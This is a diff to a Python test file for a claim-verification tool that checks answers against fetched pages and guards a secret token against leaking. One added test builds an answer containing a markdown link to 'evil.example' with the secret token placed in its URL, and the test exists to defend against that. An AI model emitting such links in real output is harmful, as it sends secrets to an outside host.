@@ -218,10 +218,20 @@ def test_pages_that_may_be_opened_are_kept_in_order(
     )
     errors = [page["error_code"] for page in result.details["results"]]
     assert errors == [None, "url_not_seen", None, None]
-    assert [page["url"] for page in result.details["results"]] == [SEEN, "", f"{SEEN}#part", LINKED]
+    assert [page["url"] for page in result.details["results"]] == [
+        *(SEEN, unseen, f"{SEEN}#part", LINKED)
+    ]
     assert TOKEN not in result.text
     assert TOKEN not in wire.left()
     assert result.details["failed_count"] == 1
+
+
+def test_a_claim_is_checked_against_a_page_that_it_spells_in_another_way(session: Session) -> None:
+    sentence = "The ferry crosses the sound forty times a day"
+    for url in SAME:
+        answer = f"{sentence} [x]({url}). It is gone [y](https://evil.example/{TOKEN})."
+        verified = session.verify(answer, fetch=True)
+        assert [claim.status for claim in verified.claims] == ["quoted", "unsupported"]
 
 
 def test_a_section_is_put_first_without_being_requested(session: Session, wire: Wire) -> None:
